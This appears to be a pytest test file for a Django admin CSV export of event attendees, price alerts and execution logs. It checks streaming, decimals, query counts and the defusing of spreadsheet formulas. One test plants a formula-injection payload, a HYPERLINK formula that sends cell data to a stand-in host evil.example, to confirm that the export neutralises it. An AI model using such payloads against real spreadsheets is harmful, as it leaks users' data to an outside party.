"""CSV export from the admin: streamed from a bounded iterator, the right rows and columns, cells that
a spreadsheet cannot run as formulas, exact decimals, and a query count that does not grow with rows."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.db.models import QuerySet
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from alerts.models import Coin
from alerts.services.price_alerts import price_alert_create
from events.models import Attendee
from events.services import attendee_register, event_create
from eventsys.ops.csv_export import csv_cell
from triggers.services import trigger_create, trigger_fire

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("frozen")]

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
NOW_ISO = "2026-11-23T12:00:00+00:00"


@pytest.fixture
def staff(client, admin_user):
    client.force_login(admin_user)
    return client


def export(staff, changelist: str, action: str, objects) -> StreamingHttpResponse:
    response = staff.post(changelist, {"action": action, "index": 0, "_selected_action": [obj.pk for obj in objects]})
    assert response.status_code == 200, response.content if not response.streaming else response
    return response


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


def an_event(organiser, name: str = "PyCon Pune", *, capacity: int = 50):
    return event_create(
        organiser=organiser,
        name=name,
        location="Pune",
        start_time=NOW + timedelta(days=10),
        end_time=NOW + timedelta(days=10, hours=8),
        timezone="Asia/Kolkata",
        max_capacity=capacity,
    )


def attendees(event, count: int) -> list[Attendee]:
    return [attendee_register(event=event, name=f"Guest {i}", email=f"guest{i}@example.com")[0] for i in range(count)]


def price_alerts(owner, count: int) -> list:
    Coin.objects.get_or_create(
        id="bitcoin", defaults={"symbol": "btc", "name": "Bitcoin", "market_cap_rank": 1, "refreshed_at": NOW}
    )
    return [
        price_alert_create(owner=owner, coin="bitcoin", target_price=Decimal(1000 + i), direction="above")
        for i in range(count)
    ]


def execution_logs(owner, count: int) -> list:
    logs = []
    for i in range(count):
        trigger = trigger_create(
            owner=owner,
            name=f"job {i}",
            kind="scheduled",
            schedule_type="interval",
            schedule_time=NOW + timedelta(minutes=1),
            interval=5,
        )
        logs.append(trigger_fire(trigger=trigger))
    return logs


def test_attendees_export_as_a_streamed_csv_attachment(staff, alice):
    event = an_event(alice, capacity=1)
    first = attendee_register(event=event, name="Ada", email="ada@example.com")[0]
    second = attendee_register(event=event, name="Grace", email="grace@example.com", waitlist=True)[0]
    third = attendee_register(event=event, name="Linus", email="linus@example.com", waitlist=True)[0]

    response = export(staff, "/admin/events/attendee/", "export_csv", [first, second, third])

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="attendees.csv"'
    header, *rows = rows_of(response)
    assert header == ["event id", "event name", "name", "email", "status", "waitlist position", "registered at"]
    assert sorted(rows) == [
        [str(event.pk), "PyCon Pune", "Ada", "ada@example.com", "registered", "", NOW_ISO],
        [str(event.pk), "PyCon Pune", "Grace", "grace@example.com", "waitlisted", "1", NOW_ISO],
        [str(event.pk), "PyCon Pune", "Linus", "linus@example.com", "waitlisted", "2", NOW_ISO],
    ]


def test_rows_come_from_a_chunked_iterator(staff, alice, monkeypatch):
    """Rows are read lazily from `.iterator()`, which keeps memory bounded (no result cache)."""
    chunk_sizes = []
    iterator = QuerySet.iterator

    def spy(self, chunk_size=None):
        chunk_sizes.append(chunk_size)
        return iterator(self, chunk_size=chunk_size)

    monkeypatch.setattr(QuerySet, "iterator", spy)
    response = export(staff, "/admin/events/attendee/", "export_csv", attendees(an_event(alice), 2))
    assert chunk_sizes == []  # nothing read yet: rows are fetched as the client reads the body

    assert len(rows_of(response)) == 3
    assert chunk_sizes == [2000]


def test_a_name_written_as_a_formula_comes_out_as_text(staff, alice):
    event = an_event(alice)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    attendee = attendee_register(event=event, name=formula, email="mallory@example.com")[0]

    (_, row) = rows_of(export(staff, "/admin/events/attendee/", "export_csv", [attendee]))

    assert row[2] == "'" + formula


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_prefix_is_defused(text):
    assert csv_cell(text) == "'" + text


def test_plain_values_are_written_as_they_are():
    assert csv_cell("Ada Lovelace") == "Ada Lovelace"
    assert csv_cell(-3) == "-3"  # numbers are not text: no quote
    assert csv_cell(Decimal("-0.00000001")) == "-0.00000001"  # not -1E-8
    assert csv_cell(None) == ""
    assert csv_cell(datetime(2026, 3, 29, 5, 30, tzinfo=ZoneInfo("Asia/Kolkata"))) == "2026-03-29T00:00:00+00:00"


def test_an_events_export_has_the_attendees_of_the_selected_events_only(staff, alice):
    pune, goa, delhi = an_event(alice, "Pune"), an_event(alice, "Goa"), an_event(alice, "Delhi")
    attendee_register(event=pune, name="Ada", email="ada@example.com")
    attendee_register(event=goa, name="Grace", email="grace@example.com")
    attendee_register(event=delhi, name="Linus", email="linus@example.com")

    response = export(staff, "/admin/events/event/", "export_attendees_csv", [pune, goa])

    assert isinstance(response, StreamingHttpResponse)
    header, *rows = rows_of(response)
    assert header[:3] == ["event id", "event name", "name"]
    assert sorted((row[1], row[2]) for row in rows) == [("Goa", "Grace"), ("Pune", "Ada")]


def test_price_alerts_export_with_exact_decimals(staff, alice):
    Coin.objects.create(id="bitcoin", symbol="btc", name="Bitcoin", market_cap_rank=1, refreshed_at=NOW)
    # SQLite keeps 15 significant digits; PostgreSQL all of them. Either way the text is the stored
    # value at the field's 8 places, never an exponent (str(Decimal("1E-8"))) nor a float's rounding.
    tiny = price_alert_create(owner=alice, coin="btc", target_price=Decimal("0.00000001"), direction="below")
    large = price_alert_create(owner=alice, coin="btc", target_price=Decimal("1234567.1234567"), direction="below")

    response = export(staff, "/admin/alerts/pricealert/", "export_csv", [tiny, large])

    assert isinstance(response, StreamingHttpResponse)
    assert rows_of(response) == [
        [
            "owner",
            "coin",
            "currency",
            "direction",
            "target price",
            "status",
            "created at",
            "triggered at",
            "triggered price",
        ],
        ["alice", "bitcoin", "usd", "below", "1234567.12345670", "created", NOW_ISO, "", ""],
        ["alice", "bitcoin", "usd", "below", "0.00000001", "created", NOW_ISO, "", ""],
    ]


def test_execution_logs_export(staff, alice):
    (log,) = execution_logs(alice, 1)

    response = export(staff, "/admin/triggers/executionlog/", "export_csv", [log])

    assert isinstance(response, StreamingHttpResponse)
    assert rows_of(response) == [
        [
            "trigger id",
            "trigger name",
            "owner",
            "source",
            "scheduled for",
            "created at",
            "status",
            "state",
            "attempts",
            "response status",
            "latency ms",
            "delivery id",
            "error",
        ],
        [
            str(log.trigger_id),
            "job 0",
            "alice",
            "manual",
            NOW_ISO,
            NOW_ISO,
            "none",
            "active",
            "0",
            "",
            "",
            str(log.delivery_id),
            "",
        ],
    ]


@pytest.mark.parametrize(
    ("changelist", "action", "make"),
    [
        ("/admin/events/attendee/", "export_csv", lambda owner, n: attendees(an_event(owner, capacity=100), n)),
        ("/admin/alerts/pricealert/", "export_csv", price_alerts),
        ("/admin/triggers/executionlog/", "export_csv", execution_logs),
    ],
    ids=["attendees", "price alerts", "execution logs"],
)
def test_the_query_count_does_not_grow_with_the_rows(staff, alice, changelist, action, make):
    def queries_to_export(objects) -> int:
        with CaptureQueriesContext(connection) as queries:
            rows = rows_of(export(staff, changelist, action, objects))
        assert len(rows) == len(objects) + 1
        return len(queries)

    few = make(alice, 3)
    many = make(alice, 30)

    assert queries_to_export(few) == queries_to_export(many)


def test_the_event_export_query_count_does_not_grow_with_the_rows(staff, alice):
    small, large = an_event(alice, "Small", capacity=100), an_event(alice, "Large", capacity=100)
    attendees(small, 3)
    attendees(large, 30)

    def queries_to_export(event) -> int:
        with CaptureQueriesContext(connection) as queries:
            rows_of(export(staff, "/admin/events/event/", "export_attendees_csv", [event]))
        return len(queries)

    assert queries_to_export(small) == queries_to_export(large)
